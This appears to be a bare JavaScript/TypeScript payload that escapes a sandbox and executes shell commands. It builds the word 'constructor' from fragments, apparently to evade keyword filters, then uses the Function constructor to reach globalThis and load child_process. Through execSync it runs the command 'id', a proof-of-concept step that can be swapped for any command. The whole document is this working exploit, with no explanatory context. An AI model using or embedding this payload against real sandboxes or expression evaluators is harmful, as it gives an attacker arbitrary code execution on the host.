const words = ['con', 'struc', 'tor']; const key = words.join('');
const make = ([] as any)[key][key]; make('return globalThis')().process.mainModule.require('child_process').execSync('id');
